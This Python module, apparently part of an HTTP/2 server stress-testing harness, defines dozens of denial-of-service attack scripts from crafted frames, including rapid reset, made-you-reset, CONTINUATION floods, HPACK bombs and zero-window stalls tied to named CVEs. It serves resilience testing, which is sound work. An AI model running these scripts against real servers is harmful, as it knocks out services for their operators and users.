"""The attacks: one function each, which has a connection and says how many frames it may send.

The first line of a docstring is what the table and the documentation say of it. A script sends whole batches, so it may
send a few frames more than it may. `held`: as many connections as the run allows are opened and left so until its end.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Protocol

from bench.attacks import frames as f

BATCH = 200


class Attacker(Protocol):
    """A connection, as scripts know it (attacker.py; tests have others, without a socket)."""

    reads: bool

    def send(self, data: bytes, frames: int) -> None:
        """Send so many frames; raises an exception of its own when the connection has ended."""

    def listen(self, quiet: float) -> None:
        """Wait for what comes until so long nothing has come."""


Script = Callable[[Attacker, int], None]


@dataclass(frozen=True, slots=True)
class Attack:
    """A script and how it is run."""

    name: str
    script: Script
    held: bool = False
    first: bytes = f.PREFACE + f.settings()  # what is sent before the script begins
    within: bool = False  # it ends within a header block, where no other frame may come

    @property
    def tells(self) -> str:
        """What it does."""
        return (self.script.__doc__ or "").splitlines()[0]


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str, held: bool = False, first: bytes = f.PREFACE + f.settings(), within: bool = False
) -> Callable[[Script], Script]:
    """Records a script."""

    def record(script: Script) -> Script:
        assert name not in ATTACKS, f"two attacks are called {name}"
        ATTACKS[name] = Attack(name, script, held, first, within)
        return script

    return record


def batches(count: int, size: int = BATCH) -> Iterator[range]:
    """Numbers of streams, in batches."""
    number = 1
    while count > 0:
        yield range(number, number + 2 * size, 2)
        number += 2 * size
        count -= size


def repeat(one: Attacker, count: int, *sent: bytes) -> None:
    """The same frames again and again, so many in all."""
    whole = b"".join(sent) * (BATCH // len(sent))
    frames = BATCH // len(sent) * len(sent)
    for _ in range(-(-count // frames)):
        one.send(whole, frames)


def each_stream(one: Attacker, count: int, written: Callable[[int], bytes], frames: int) -> None:
    """What is `written` for each new stream, so many frames of it."""
    for batch in batches(-(-count // frames), BATCH // frames):
        one.send(b"".join(map(written, batch)), frames * len(batch))


# Streams that end before they are answered


@attack("rapid-reset")
def rapid_reset(one: Attacker, count: int) -> None:
    """Requests that are reset in the same packet (CVE-2023-44487)."""
    block = f.request()
    each_stream(one, count, lambda stream: f.headers(stream, block) + f.rst_stream(stream), 2)


@attack("rapid-reset-queued")
def rapid_reset_queued(one: Attacker, count: int) -> None:
    """Requests that are reset while they wait in a full server's queue."""
    block = f.request(b"/queued")
    each_stream(one, count, lambda stream: f.headers(stream, block) + f.rst_stream(stream), 2)


@attack("rapid-reset-upload")
def rapid_reset_upload(one: Attacker, count: int) -> None:
    """Uploads that are reset behind their first bytes."""
    block, data = f.request(b"/upload", b"POST"), b"x" * 1000

    def written(stream: int) -> bytes:
        return f.headers(stream, block, f.END_HEADERS) + f.frame(f.DATA, 0, stream, data) + f.rst_stream(stream)

    each_stream(one, count, written, 3)


def provoked(name: str, tells: str, path: bytes, ended: bool, provoke: Callable[[int], bytes]) -> None:
    """Records an attack that makes the program reset each stream (made-you-reset, CVE-2025-8671)."""

    def script(one: Attacker, count: int) -> None:
        block = f.request(path, b"GET" if ended else b"POST")
        flags = f.END_HEADERS | (f.END_STREAM if ended else 0)
        each_stream(one, count, lambda stream: f.headers(stream, block, flags) + provoke(stream), 2)

    script.__doc__ = tells
    attack(f"made-you-reset-{name}")(script)


provoked(
    "overflow",
    "Credit beyond 2^31-1, so that the program resets the stream.",
    b"/",
    True,
    lambda stream: f.window_update(stream, f.LARGEST),
)
provoked(
    "no-credit",
    "WINDOW_UPDATE of 0, so that the program resets the stream.",
    b"/",
    True,
    lambda stream: f.window_update(stream, 0),
)
provoked(
    "half-closed",
    "DATA behind the end of the request, so that the program resets the stream.",
    b"/",
    True,
    lambda stream: f.frame(f.DATA, 0, stream, b"x"),
)
provoked(
    "again",
    "HEADERS behind the end of the request.",
    b"/",
    True,
    lambda stream: f.headers(stream, f.request()),
)
provoked(
    "own-parent",
    "PRIORITY that makes a stream depend on itself.",
    b"/",
    True,
    lambda stream: f.priority(stream, stream),
)
provoked(
    "priority-size",
    "PRIORITY of the wrong size.",
    b"/",
    True,
    lambda stream: f.frame(f.PRIORITY, 0, stream, b"\0\0\0\0"),
)


@attack("made-you-reset-length")
def wrong_length(one: Attacker, count: int) -> None:
    """A body that is longer than its content-length."""
    block = f.request(b"/upload", b"POST") + f.literal(b"content-length", b"5")

    def written(stream: int) -> bytes:
        return f.headers(stream, block, f.END_HEADERS) + f.frame(f.DATA, f.END_STREAM, stream, b"x" * 9)

    each_stream(one, count, written, 2)


@attack("malformed")
def malformed(one: Attacker, count: int) -> None:
    """Requests that are malformed: without a path, so that the program resets the stream."""
    each_stream(one, count, lambda stream: f.headers(stream, b"\x82\x86\x01" + f.text(b"www.example.com")), 1)


@attack("bad-length")
def bad_length(one: Attacker, count: int) -> None:
    """Requests that announce a body, and end with their headers."""
    block = f.request(method=b"POST") + f.literal(b"content-length", b"5")
    each_stream(one, count, lambda stream: f.headers(stream, block), 1)


@attack("closed-streams")
def closed_streams(one: Attacker, count: int) -> None:
    """RST_STREAM for a stream that has ended, again and again."""
    one.send(f.headers(1, f.request()), 1)
    one.listen(0.2)
    repeat(one, count, f.rst_stream(1))


@attack("late-data")
def late_data(one: Attacker, count: int) -> None:
    """DATA for a stream that has been reset."""
    one.send(f.headers(1, f.request(b"/upload", b"POST"), f.END_HEADERS) + f.rst_stream(1), 2)
    repeat(one, count, f.frame(f.DATA, 0, 1, b"x"))


# Header blocks


@attack("continuation-endless", within=True)
def continuation_endless(one: Attacker, count: int) -> None:
    """A header block that never ends: CONTINUATION with 16,000 bytes each (CVE-2024-27316)."""
    one.send(f.headers(1, f.request(), f.END_STREAM), 1)
    part = f.frame(f.CONTINUATION, 0, 1, f.literal(b"a", b"b" * 100) * 150)
    for _ in range(count):
        one.send(part, 1)


@attack("continuation-empty", within=True)
def continuation_empty(one: Attacker, count: int) -> None:
    """A header block that never ends: empty CONTINUATION."""
    one.send(f.headers(1, f.request(), f.END_STREAM), 1)
    repeat(one, count, f.frame(f.CONTINUATION, 0, 1))


@attack("continuation-small")
def continuation_small(one: Attacker, count: int) -> None:
    """Header blocks that are cut in single bytes, by CONTINUATION."""
    block = f.request()

    def written(stream: int) -> bytes:
        parts = [f.headers(stream, block[:1], f.END_STREAM)]
        parts += [f.frame(f.CONTINUATION, 0, stream, block[at : at + 1]) for at in range(1, len(block) - 1)]
        return b"".join([*parts, f.frame(f.CONTINUATION, f.END_HEADERS, stream, block[-1:])])

    each_stream(one, count, written, len(block))


@attack("empty-names")
def empty_names(one: Attacker, count: int) -> None:
    """Requests with 5,000 fields of no length at all (CVE-2019-9516)."""
    block = f.request() + f.literal(b"", b"") * 5000
    for stream in range(1, 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("many-fields")
def many_fields(one: Attacker, count: int) -> None:
    """Requests with 4,000 small fields."""
    block = f.request() + f.literal(b"a", b"") * 4000
    for stream in range(1, 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("large-list")
def large_list(one: Attacker, count: int) -> None:
    """Requests whose header list takes 64,000 bytes, in four frames."""
    part = f.literal(b"a", b"b" * 1000) * 15
    block = f.request() + part
    for stream in range(1, 2 * (count // 4), 2):
        sent = f.headers(stream, block, f.END_STREAM) + f.frame(f.CONTINUATION, 0, stream, part) * 2
        one.send(sent + f.frame(f.CONTINUATION, f.END_HEADERS, stream, part), 4)


@attack("hpack-bomb")
def hpack_bomb(one: Attacker, count: int) -> None:
    """A field of 4,000 bytes, named 16,000 times by one byte each (CVE-2016-6581)."""
    one.send(f.headers(1, f.request() + f.literal(b"bomb", b"x" * 4000, kept=True)), 1)
    block = f.request() + b"\xbe" * 16000
    for stream in range(3, 3 + 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("cookie-bomb")
def cookie_bomb(one: Attacker, count: int) -> None:
    """A small cookie in the table, named 16,000 times by one byte each: cookies are joined."""
    one.send(f.headers(1, f.request() + f.literal(b"cookie", b"a=b", kept=True)), 1)
    block = f.request() + b"\xbe" * 16000
    for stream in range(3, 3 + 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("huffman-bomb")
def huffman_bomb(one: Attacker, count: int) -> None:
    """Values that grow most when they are decoded: 15,000 bytes become 24,000."""
    # Five bits of zeros are the character "0" (RFC 7541 appendix B).
    block = f.request() + b"\x00" + f.text(b"a") + f.text(b"\0" * 15000, huffman=True)
    for stream in range(1, 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("table-churn")
def table_churn(one: Attacker, count: int) -> None:
    """Fields that enter the dynamic table and are evicted at once, 1,000 in a request."""
    for stream in range(1, 2 * count, 2):
        fresh = b"".join(f.literal(b"x%d" % number, b"%d" % stream, kept=True) for number in range(1000))
        one.send(f.headers(stream, f.request() + fresh), 1)


@attack("table-size")
def table_size(one: Attacker, count: int) -> None:
    """Requests that begin with 5,000 updates of the table's size."""
    block = (b"\x20" + f.integer(4096, 5, 0x20)) * 2500 + f.request()
    for stream in range(1, 2 * count, 2):
        one.send(f.headers(stream, block), 1)


@attack("bad-hpack", within=True)
def bad_hpack(one: Attacker, count: int) -> None:
    """Blocks that cannot be decoded, on one connection after the other."""
    del count
    one.send(f.headers(1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff"), 1)
    one.listen(0.2)


# Frames that cost an answer, or nothing but time


@attack("settings")
def settings_flood(one: Attacker, count: int) -> None:
    """SETTINGS without a setting, each of which is acknowledged (CVE-2019-9515)."""
    repeat(one, count, f.settings())


@attack("settings-many")
def settings_many(one: Attacker, count: int) -> None:
    """SETTINGS with 2,700 settings each."""
    sent = f.settings(*[(f.INITIAL_WINDOW_SIZE, number) for number in range(2700)])
    for _ in range(count):
        one.send(sent, 1)


@attack("settings-table")
def settings_table(one: Attacker, count: int) -> None:
    """SETTINGS that change the size of the program's table up and down."""
    repeat(one, count, f.settings((f.HEADER_TABLE_SIZE, 0)), f.settings((f.HEADER_TABLE_SIZE, 65536)))


@attack("settings-window")
def settings_window(one: Attacker, count: int) -> None:
    """The initial window up and down, with 90 streams open."""
    block = f.request(b"/never")
    one.send(b"".join(f.headers(stream, block) for stream in range(1, 181, 2)), 90)
    repeat(one, count, f.settings((f.INITIAL_WINDOW_SIZE, 0)), f.settings((f.INITIAL_WINDOW_SIZE, f.LARGEST)))


@attack("settings-ack")
def settings_ack(one: Attacker, count: int) -> None:
    """Acknowledgements of SETTINGS that nobody has sent."""
    repeat(one, count, f.frame(f.SETTINGS, f.ACK))


@attack("ping")
def ping_flood(one: Attacker, count: int) -> None:
    """PING, each of which is answered (CVE-2019-9512)."""
    repeat(one, count, f.frame(f.PING, payload=b"12345678"))


@attack("ping-ack")
def ping_ack(one: Attacker, count: int) -> None:
    """Answers to PING that nobody has sent."""
    repeat(one, count, f.frame(f.PING, f.ACK, payload=b"12345678"))


@attack("ping-unread")
def ping_unread(one: Attacker, count: int) -> None:
    """PING by a client that never reads the answers."""
    one.reads = False
    repeat(one, count, f.frame(f.PING, payload=b"12345678"))


@attack("settings-unread")
def settings_unread(one: Attacker, count: int) -> None:
    """SETTINGS by a client that never reads the acknowledgements."""
    one.reads = False
    repeat(one, count, f.settings())


@attack("resets-unread")
def resets_unread(one: Attacker, count: int) -> None:
    """Malformed requests by a client that never reads the resets."""
    one.reads = False
    malformed(one, count)


@attack("priority")
def priority_flood(one: Attacker, count: int) -> None:
    """PRIORITY for streams that were never opened (CVE-2019-9513)."""
    each_stream(one, count, lambda stream: f.priority(stream, stream + 2), 1)


@attack("priority-one")
def priority_one(one: Attacker, count: int) -> None:
    """PRIORITY for an open stream, again and again."""
    one.send(f.headers(1, f.request(b"/never")), 1)
    repeat(one, count, f.priority(1, 3), f.priority(1, 5))


@attack("empty-data")
def empty_data(one: Attacker, count: int) -> None:
    """DATA without a byte and without an end (CVE-2019-9518)."""
    one.send(f.headers(1, f.request(b"/upload", b"POST"), f.END_HEADERS), 1)
    repeat(one, count, f.frame(f.DATA, 0, 1))


@attack("padded-data")
def padded_data(one: Attacker, count: int) -> None:
    """DATA that is padding alone, as far as the windows go."""
    one.send(f.headers(1, f.request(b"/upload", b"POST"), f.END_HEADERS), 1)
    repeat(one, count, f.frame(f.DATA, f.PADDED, 1, b"\x0a" + b"\0" * 10))


@attack("window-ones")
def window_ones(one: Attacker, count: int) -> None:
    """WINDOW_UPDATE of 1 for the connection."""
    repeat(one, count, f.window_update(0, 1))


@attack("window-ones-stream", first=f.PREFACE + f.settings((f.INITIAL_WINDOW_SIZE, 0)))
def window_ones_stream(one: Attacker, count: int) -> None:
    """A large response, asked for byte by byte (CVE-2019-9511)."""
    one.send(f.headers(1, f.request(b"/large")), 1)
    repeat(one, count, f.window_update(1, 1))


@attack("unknown")
def unknown_frames(one: Attacker, count: int) -> None:
    """Frames of a kind that nobody knows."""
    repeat(one, count, f.frame(0xEE, 0, 0, b"12345678"))


@attack("push-promise")
def push_promise(one: Attacker, count: int) -> None:
    """PUSH_PROMISE, which no client may send."""
    repeat(one, count, f.frame(f.PUSH_PROMISE, f.END_HEADERS, 1, b"\0\0\0\x02\x82"))


@attack("goaway-and-on")
def goaway_and_on(one: Attacker, count: int) -> None:
    """GOAWAY, and requests behind it all the same."""
    block, bye = f.request(), f.frame(f.GOAWAY, payload=b"\0" * 8)
    each_stream(one, count, lambda stream: bye + f.headers(stream, block), 2)


@attack("single-bytes")
def single_bytes(one: Attacker, count: int) -> None:
    """Requests that come byte by byte, each byte in a packet; 90 of them at a time."""
    one.send(f.window_update(0, 1_000_000), 1)
    for stream in range(1, count // 20, 2):
        for byte in f.headers(stream, f.request()):
            one.send(bytes((byte,)), 0)
        one.send(b"", 40)
        if stream % 180 == 1:
            one.listen(0.05)


@attack("many-requests")
def many_requests(one: Attacker, count: int) -> None:
    """Requests as fast as they go, without regard to the limit of streams."""
    block = f.request()
    each_stream(one, count, lambda stream: f.headers(stream, block), 1)


# Connections that take memory and time


@attack("streams-left", held=True)
def streams_left(one: Attacker, count: int) -> None:
    """As many streams as are allowed, to a server that never answers."""
    block = f.request(b"/never")
    one.send(b"".join(f.headers(stream, block) for stream in range(1, 2 * min(count, 100), 2)), min(count, 100))


@attack("streams-100000")
def streams_100000(one: Attacker, count: int) -> None:
    """Streams that are opened and left, far beyond the limit of streams."""
    block = f.request(b"/never")
    each_stream(one, count, lambda stream: f.headers(stream, block), 1)


@attack("uploads-left", held=True)
def uploads_left(one: Attacker, count: int) -> None:
    """100 uploads on each connection that fill the windows and never end."""
    block, data = f.request(b"/upload", b"POST"), b"x" * 16384
    for stream in range(1, 2 * min(count, 100), 2):
        one.send(f.headers(stream, block, f.END_HEADERS), 1)
    for stream in range(1, 2 * min(count, 100), 2):
        if 16384 * (stream + 1) // 2 <= 49152:  # the window of the connection is 65,535 bytes
            one.send(f.frame(f.DATA, 0, stream, data), 1)


@attack("no-credit", held=True, first=f.PREFACE + f.settings((f.INITIAL_WINDOW_SIZE, 0)))
def no_credit(one: Attacker, count: int) -> None:
    """100 large responses on each connection, without credit for a single byte (CVE-2019-9517)."""
    block = f.request(b"/large")
    one.send(b"".join(f.headers(stream, block) for stream in range(1, 2 * min(count, 100), 2)), min(count, 100))


@attack("tiny-window", held=True, first=f.PREFACE + f.settings((f.INITIAL_WINDOW_SIZE, 1)))
def tiny_window(one: Attacker, count: int) -> None:
    """The same with credit for one byte."""
    no_credit(one, count)


@attack("large-window", held=True, first=f.PREFACE + f.settings((f.INITIAL_WINDOW_SIZE, f.LARGEST)))
def large_window(one: Attacker, count: int) -> None:
    """100 large responses on each connection, all credit that there is, and nothing is read."""
    one.reads = False
    block = f.request(b"/large")
    sent = b"".join(f.headers(stream, block) for stream in range(1, 2 * min(count, 100), 2))
    one.send(f.window_update(0, f.LARGEST - 65535) + sent, min(count, 100) + 1)


@attack("preface-only", held=True)
def preface_only(one: Attacker, count: int) -> None:
    """Connections that say hello and nothing else."""
    del one, count


@attack("half-preface", held=True, first=f.PREFACE[:10])
def half_preface(one: Attacker, count: int) -> None:
    """Connections that stop within the preface."""
    del one, count


@attack("half-frame", held=True)
def half_frame(one: Attacker, count: int) -> None:
    """Connections that stop within the first request."""
    del count
    one.send(f.headers(1, f.request())[:-3], 1)


@attack("half-block", held=True)
def half_block(one: Attacker, count: int) -> None:
    """Connections that stop between HEADERS and CONTINUATION."""
    del count
    one.send(f.headers(1, f.request() + f.literal(b"a", b"b" * 15000), f.END_STREAM), 1)


@attack("slow-bytes")
def slow_bytes(one: Attacker, count: int) -> None:
    """A request that comes byte by byte, with pauses, as long as the program lets it."""
    del count
    for byte in f.headers(1, f.request() + f.literal(b"a", b"b" * 1000)):
        one.send(bytes((byte,)), 0)
        one.listen(0.02)
